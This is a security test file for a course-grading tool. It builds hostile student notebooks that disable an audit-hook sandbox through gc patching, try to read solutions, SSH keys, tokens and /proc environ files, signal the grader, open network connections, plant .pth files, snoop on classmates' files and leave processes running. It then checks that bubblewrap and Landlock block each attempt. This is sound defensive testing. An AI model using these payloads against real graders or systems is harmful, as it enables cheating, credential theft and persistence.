"""Attacks on the boundary around a graded kernel: one hostile notebook per attack class that got
through the audit-hook sandbox, graded for real with `coursekit grade FOLDER --jobs 2` (in a process
of its own, with an HF_TOKEN and a HOME holding secrets), under bubblewrap and under Landlock.

Every attack first switches the tripwire off (pure Python, through gc: nothing may rely on it),
then tries its way in, and sends back what it got through the only channel a notebook has to a
report: the error its `is_collapsed` raises on a visible case. Each notebook also solves two tasks
honestly. Each must score exactly those 2 points, no secret may reach any report (CSV, feedback
files, the grader's output), no connection or datagram may reach the grader's machine, nothing may
be planted, no process may outlive the batch, and the honest classmates graded in the same batch
keep their grades."""

import csv
import json
import os
import re
import socket
import subprocess
import sys
import threading
import uuid
from pathlib import Path

import nbformat
import psutil
import pytest

from coursekit.grader import jail
from coursekit.lesson.assets import cache_dir

ROOT = Path(__file__).resolve().parents[2]
RUN = uuid.uuid4().hex[:12]  # per-run markers: nothing another run left behind can match them
TOKEN = f"hf_redteam{RUN}"
SSH_KEY = f"ssh-secret-{RUN}"
ALICE = f"alice-marker-{RUN}"
PLANTED = f"coursekit_redteam_{RUN}"
REFERENCE_TEXT = "Lesson 05's tasks"  # the first words of coursekit/tasks/lesson05.py

from tests.grader.lesson05_cells import BEST, CHECKS, COLLAPSED, OVERFIT, PLACEHOLDERS, SETUP

HONEST_PART = [BEST, CHECKS[0], OVERFIT, CHECKS[1]]  # 2 points, whatever the attack does

# What every attack starts with: a record of its attempts, a report channel, and the tripwire switched off.
ATTEMPTS = """\
import errno, gc, json, os, sys, types

OUT = {}
PKG = os.path.dirname(coursekit.__file__)
REPO = os.path.dirname(PKG)
REFERENCE = os.path.join(PKG, "tasks", "lesson05.py")
SOLUTION = os.path.join(REPO, "solutions", "05_troubleshooting_overfitting.ipynb")

def attempt(key, read):
    try:
        got = read()
    except BaseException as exc:
        OUT[key] = errno.errorcode.get(exc.errno, str(exc.errno)) if isinstance(exc, OSError) and exc.errno \\
            else type(exc).__name__
    else:
        OUT[key] = "GOT:" + str(got)[:40]

def is_collapsed(predictions):  # what the attack got goes back in the report, as this error's message
    raise RuntimeError("ATTACK " + json.dumps(OUT, separators=(",", ":")))

def switch_off_the_tripwire():  # through gc and closure cells: ten lines of pure Python
    noop = (lambda event, args: None).__code__
    for obj in gc.get_objects():
        if isinstance(obj, types.FunctionType) and (obj.__module__ or "").startswith("coursekit.sandbox"):
            for cell in obj.__closure__ or ():
                if isinstance(cell.cell_contents, types.FunctionType) and cell.cell_contents.__name__ == "hook":
                    cell.cell_contents.__code__ = noop
            if obj.__name__ == "hook":
                obj.__code__ = noop

switch_off_the_tripwire()
attempt("hook", lambda: __import__("ctypes").CDLL(None) and "off")"""

REFERENCES = """\
import ctypes, subprocess

libc = ctypes.CDLL(None, use_errno=True)

def c_read(path):
    fd = libc.open(path.encode(), 0)
    if fd < 0:
        raise OSError(ctypes.get_errno(), path)
    buffer = ctypes.create_string_buffer(64)
    libc.read(fd, buffer, 63)
    return buffer.value.decode()

attempt("ref", lambda: open(REFERENCE).read())
attempt("sol", lambda: open(SOLUTION).read())
GIT = os.path.join(REPO, ".git")  # a folder, or in a git worktree a file
attempt("git", lambda: open(os.path.join(GIT, "HEAD") if os.path.isdir(GIT) else GIT).read())
attempt("tests", lambda: os.listdir(os.path.join(REPO, "tests")))
attempt("ctypes", lambda: c_read(REFERENCE))
attempt("cat", lambda: subprocess.run(["cat", REFERENCE], capture_output=True, text=True, check=True).stdout)"""

NATIVE_READS = """\
import cffi, torch

ffi = cffi.FFI()
ffi.cdef("int open(const char *path, int flags); long read(int fd, void *buffer, unsigned long size);")
C = ffi.dlopen(None)

def cffi_read(path):
    fd = C.open(path.encode(), 0)
    if fd < 0:
        raise OSError(ffi.errno, path)
    buffer = ffi.new("char[64]")
    C.read(fd, buffer, 63)
    return ffi.string(buffer).decode()

def token_in(text):
    return text.split("HF_TOKEN=")[1][:40] if "HF_TOKEN=" in text else "no token"

attempt("cffi_ref", lambda: cffi_read(REFERENCE))
attempt("cffi_sol", lambda: cffi_read(SOLUTION))
attempt("cffi_env", lambda: token_in(cffi_read(f"/proc/{os.getppid()}/environ")))
attempt("torch_ref", lambda: bytes(torch.from_file(REFERENCE, size=32, dtype=torch.uint8).tolist()).decode())
attempt("torch_sol", lambda: bytes(torch.from_file(SOLUTION, size=32, dtype=torch.uint8).tolist()).decode())"""

SIGNALS = """\
import signal

attempt("pidfd", lambda: signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL) or "sent")
attempt("kill", lambda: os.kill(os.getppid(), signal.SIGKILL) or "sent")
attempt("killpg", lambda: os.killpg(os.getpgid(os.getppid()), signal.SIGKILL) or "sent")"""

SECRETS = """\
HOME = {home!r}  # the instructor's, guessed right

def token_in(text):
    return text.split("HF_TOKEN=")[1][:40] if "HF_TOKEN=" in text else "no token"

attempt("env", lambda: "|".join(value for name, value in os.environ.items() if name.endswith("TOKEN")) or "none")
attempt("ssh", lambda: open(os.path.join(HOME, ".ssh", "id_ed25519")).read())
attempt("hf", lambda: open(os.path.join(HOME, ".cache", "huggingface", "token")).read())
attempt("home", lambda: os.listdir(HOME))
attempt("own_home", lambda: os.listdir(os.path.expanduser("~")) or "empty")
attempt("env1", lambda: token_in(open("/proc/1/environ").read()))
attempt("parent_env", lambda: token_in(open(f"/proc/{{os.getppid()}}/environ").read()))"""

NETWORK = """\
import socket

def udp():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"LEAK", ("127.0.0.1", {udp}))
    return "sent"

attempt("tcp", lambda: socket.create_connection(("127.0.0.1", {tcp}), timeout=3).sendall(b"LEAK") or "sent")
attempt("udp", udp)
attempt("dns", lambda: socket.getaddrinfo("pypi.org", 443)[0][4][0])
attempt("outside", lambda: socket.create_connection(("1.1.1.1", 443), timeout=3) and "connected")"""

PTH = """\
import site

def plant(path):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as handle:
        handle.write("# coursekit red team\\n")
    return path

name = {planted!r}
attempt("site", lambda: plant(os.path.join(site.getsitepackages()[0], name + ".pth")))
attempt("user", lambda: plant(os.path.join({home!r}, ".local", "lib", "python%d.%d" % sys.version_info[:2],
                                           "site-packages", name + ".pth")))
attempt("package", lambda: plant(os.path.join(PKG, name + ".py")))
attempt("repo", lambda: plant(os.path.join(REPO, name + ".pth")))"""

CLASSMATES = """\
import glob, time

# its own folders, and the course it may read (a clone can live in /tmp too)
OWN = [os.getcwd(), os.path.dirname(sys.argv[sys.argv.index("-f") + 1]), os.path.dirname(os.path.dirname(coursekit.__file__))]

def foreign(path):
    return not any(path.startswith(own) or own.startswith(path) for own in OWN)

def candidates():  # folders in /tmp, connection files on command lines, unix sockets' paths
    found = [path for pattern in ("/tmp/*", "/tmp/*/*", "/tmp/*/*/*") for path in glob.glob(pattern)]
    try:
        pids = [name for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        pids = []
    for pid in pids:
        try:
            found += [arg for arg in open(f"/proc/{pid}/cmdline").read().split("\\0") if arg.endswith(".json")]
        except OSError:
            pass
    try:
        found += [line.split()[-1] for line in open("/proc/net/unix").read().splitlines()[1:] if "/" in line]
    except OSError:
        pass
    return [path for path in found if foreign(path)]

SEEN, LOOT = set(), []
deadline = time.monotonic() + 8  # long enough to overlap a classmate graded at the same time
while time.monotonic() < deadline:
    for path in candidates():
        SEEN.add(path)
        for file in [path] if os.path.isfile(path) else glob.glob(os.path.join(path, "*")):
            try:
                LOOT.append(open(file).read()[:60])
            except OSError:
                pass
    time.sleep(0.2)
attempt("tmp", lambda: os.listdir("/tmp") and "listed")
OUT["seen"] = len(SEEN)
OUT["loot"] = LOOT[:1]"""

DETACHED = """\
import time

def detach():  # a double fork into a session of its own, then it waits forever
    read_end, write_end = os.pipe()
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.write(write_end, str(os.getpid()).encode())
            while True:
                time.sleep(1)
        os._exit(0)
    os.close(write_end)
    return os.read(read_end, 32).decode()

attempt("detached", detach)"""

ATTACKS = {"references": REFERENCES, "native_reads": NATIVE_READS, "signals": SIGNALS, "secrets": SECRETS,
           "network": NETWORK, "pth": PTH, "classmates": CLASSMATES, "detached": DETACHED}
FORMATTED = ("secrets", "network", "pth")  # the attacks whose source has {fields} to fill
ISOLATIONS = [jail.BUBBLEWRAP, jail.LANDLOCK]


def notebook(cells):
    nb = nbformat.v4.new_notebook()
    nb.cells = [nbformat.v4.new_code_cell(source) for source in [SETUP, *cells]]
    nb.metadata = {"coursekit": {"exercise": "05"}}
    return nb


class Listener:
    """A TCP and a UDP socket on 127.0.0.1 of the grader's machine, counting what reaches them."""

    def __init__(self):
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.1", 0))
        self.udp.settimeout(0.2)
        self.reached: list[str] = []
        self.done = threading.Event()
        self.threads = [threading.Thread(target=self._accept, daemon=True),
                        threading.Thread(target=self._receive, daemon=True)]
        for thread in self.threads:
            thread.start()

    def ports(self) -> dict:
        return {"tcp": self.tcp.getsockname()[1], "udp": self.udp.getsockname()[1]}

    def _accept(self):
        self.tcp.settimeout(0.2)
        while not self.done.is_set():
            try:
                connection, address = self.tcp.accept()
            except OSError:
                continue
            self.reached.append(f"tcp from {address}")
            connection.close()

    def _receive(self):
        while not self.done.is_set():
            try:
                data, address = self.udp.recvfrom(64)
            except OSError:
                continue
            self.reached.append(f"udp {data!r} from {address}")

    def close(self):
        self.done.set()
        for thread in self.threads:
            thread.join()
        self.tcp.close()
        self.udp.close()


def _planted_paths(home: Path) -> list[Path]:
    import site

    user_site = home / ".local" / "lib" / f"python{sys.version_info[0]}.{sys.version_info[1]}" / "site-packages"
    return [Path(site.getsitepackages()[0]) / f"{PLANTED}.pth", user_site / f"{PLANTED}.pth",
            ROOT / "coursekit" / f"{PLANTED}.py", ROOT / f"{PLANTED}.pth"]


@pytest.fixture(scope="module", params=ISOLATIONS)
def batch(request, tmp_path_factory, grading_seed):
    """Every attack, an honest classmate (full marks) and an untouched one, graded in one batch with
    --jobs 2 under one isolation; (isolation, rows, reports, everything the batch wrote, listener)."""
    isolation = request.param
    if isolation == jail.BUBBLEWRAP and not jail.bubblewrap_works():
        pytest.skip("bubblewrap cannot start here")
    if jail.landlock_abi() < 1 and isolation == jail.LANDLOCK:
        pytest.skip("Landlock is not available here")
    base = tmp_path_factory.mktemp(f"attacks-{isolation}")
    home, folder = base / "home", base / "submissions"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_ed25519").write_text(SSH_KEY)
    (home / ".cache" / "huggingface").mkdir(parents=True)
    (home / ".cache" / "huggingface" / "token").write_text(TOKEN)
    folder.mkdir()
    listener = Listener()
    values = {"home": str(home), "planted": PLANTED, **listener.ports()}
    for name, attack in ATTACKS.items():
        cells = [ATTEMPTS, attack.format(**values) if name in FORMATTED else attack] + HONEST_PART + [CHECKS[2]]
        nbformat.write(notebook(cells), folder / f"05_attack_{name}.ipynb")
    nbformat.write(notebook([f"# {ALICE}", BEST, OVERFIT, COLLAPSED] + CHECKS), folder / "05_alice.ipynb")
    nbformat.write(notebook([pair for pair in zip(PLACEHOLDERS, CHECKS) for pair in pair]), folder / "05_bob.ipynb")
    out = base / "grades.csv"
    env = {**os.environ, "HF_TOKEN": TOKEN, "HUGGING_FACE_HUB_TOKEN": TOKEN, "HOME": str(home),
           "COURSEKIT_CACHE": str(cache_dir())}
    try:
        done = subprocess.run([sys.executable, "-m", "coursekit", "grade", str(folder), "--out", str(out), "--jobs", "2",
                               "--isolation", isolation, "--seed", str(grading_seed), "--cell-timeout", "30",
                               "--call-timeout", "10", "--notebook-timeout", "300", "--memory-mb", "3072"],
                              env=env, capture_output=True, text=True, timeout=1200, start_new_session=True)
    finally:
        listener.close()
        leftovers = [path for path in _planted_paths(home) if path.exists()]
        for path in leftovers:  # never leave a planted file behind, even when the test fails
            path.unlink()
    assert done.returncode == 0, f"the batch did not finish: {done.returncode}\n{done.stderr[-3000:]}"
    with out.open(encoding="utf-8") as handle:
        rows = {row["submission"]: row for row in csv.DictReader(handle)}
    reports = {path.name.rsplit("-", 1)[0]: json.loads(path.read_text()) for path in (base / "grades-feedback").glob("*.json")}
    written = "\n".join([out.read_text(), done.stdout, done.stderr] +
                        [path.read_text() for path in (base / "grades-feedback").glob("*.json")])
    return isolation, rows, reports, written, listener, leftovers


def outcomes(batch, name) -> dict:
    """What attack `name` sent back: {attempt: errno name, exception name, or "GOT:" and what it got}."""
    report = batch[2][f"05_attack_{name}"]
    message = report["tasks"][2]["message"]
    found = re.search(r"ATTACK (\{.*\})", message)
    assert found, f"the attack's report did not come back: {report}"
    return json.loads(found.group(1))


def test_each_attack_scores_exactly_its_honest_part_and_classmates_keep_their_grades(batch, replay):
    isolation, rows = batch[0], batch[1]
    for name in ATTACKS:
        row = rows[f"05_attack_{name}.ipynb"]
        assert (row["05-best-epoch"], row["05-overfitting-from"], row["05-is-collapsed"]) == ("1", "1", "0"), \
            (name, row, replay)
        assert row["isolation"] == isolation and row["error"] == ""
    assert rows["05_alice.ipynb"]["total"] == "3" and rows["05_bob.ipynb"]["total"] == "0", replay
    assert len(rows) == len(ATTACKS) + 2


def test_the_tripwire_is_off_in_every_attack(batch):
    for name in ATTACKS:
        assert outcomes(batch, name)["hook"] == "GOT:off", name  # so what follows tests the boundary alone


def test_no_secret_reaches_any_report(batch):
    written = batch[3]
    for secret in (TOKEN, SSH_KEY, ALICE, REFERENCE_TEXT, '"cells"'):
        assert secret not in written, f"{secret!r} leaked into a report"


def test_references_solutions_and_git_are_absent_in_the_jail_and_refused_under_landlock(batch):
    got = outcomes(batch, "references")
    expected = "ENOENT" if batch[0] == jail.BUBBLEWRAP else "EACCES"
    assert got["ref"] == got["sol"] == got["git"] == got["tests"] == got["ctypes"] == expected, got
    assert got["cat"] in ("CalledProcessError", "EACCES"), got  # cat finds nothing, or cannot even be run


def test_native_reads_get_nothing(batch):
    got = outcomes(batch, "native_reads")
    expected = "ENOENT" if batch[0] == jail.BUBBLEWRAP else "EACCES"
    assert got["cffi_ref"] == got["cffi_sol"] == expected, got
    assert not got["torch_ref"].startswith("GOT:") and not got["torch_sol"].startswith("GOT:"), got
    assert got["cffi_env"] in ("GOT:no token", "EACCES"), got  # the jail's own parent holds no token; the grader is refused


def test_signals_never_reach_the_grader(batch):
    got = outcomes(batch, "signals")
    if batch[0] == jail.LANDLOCK:  # the grader is the kernel's parent: Landlock's signal scope refuses
        assert got == {"hook": "GOT:off", "pidfd": "EPERM", "kill": "EPERM", "killpg": "EPERM"}, got
    # in the jail the parent is its own PID namespace's first process; the batch finishing proves the rest


def test_no_token_in_the_environment_and_no_instructor_home(batch):
    got = outcomes(batch, "secrets")
    assert got["env"] == "GOT:none" and got["own_home"] == "GOT:empty", got
    expected = "ENOENT" if batch[0] == jail.BUBBLEWRAP else "EACCES"
    assert got["ssh"] == got["hf"] == got["home"] == expected, got
    assert got["parent_env"] in ("GOT:no token", "EACCES") and got["env1"] in ("GOT:no token", "EACCES"), got


def test_no_connection_or_datagram_leaves_the_kernel(batch):
    got = outcomes(batch, "network")
    listener = batch[4]
    assert listener.reached == [], listener.reached
    assert not any(got[key].startswith("GOT:") for key in ("tcp", "dns", "outside")), got
    if batch[0] == jail.LANDLOCK:  # Landlock refuses TCP; the seccomp filter any IP socket, UDP included
        assert got["tcp"] == got["udp"] == got["outside"] == "EACCES", got


def test_nothing_can_be_planted_for_later_kernels_or_the_grader(batch):
    got = outcomes(batch, "pth")
    assert batch[5] == [], f"planted (and removed): {batch[5]}"  # none of the four exists on the grader's machine
    if batch[0] == jail.BUBBLEWRAP:  # read-only binds; the jail's private /tmp held the guessed HOME, then vanished
        assert got["site"] == got["package"] == got["repo"] == "EROFS", got
    else:
        assert got["site"] == got["user"] == got["package"] == got["repo"] == "EACCES", got


def test_a_classmate_graded_at_the_same_time_is_out_of_sight(batch):
    got = outcomes(batch, "classmates")
    assert got["seen"] == 0 and got["loot"] == [], got


def test_a_detached_process_does_not_outlive_the_batch(batch):
    got = outcomes(batch, "detached")
    assert got["detached"].startswith("GOT:"), got  # it did start one
    if batch[0] == jail.LANDLOCK:  # no PID namespace: its pid is real, and the grader's sweep must have killed it
        pid = int(got["detached"][4:])
        try:
            alive = "coursekit.sandbox" in " ".join(psutil.Process(pid).cmdline())
        except psutil.Error:
            alive = False
        assert not alive, f"process {pid} outlived its grading"
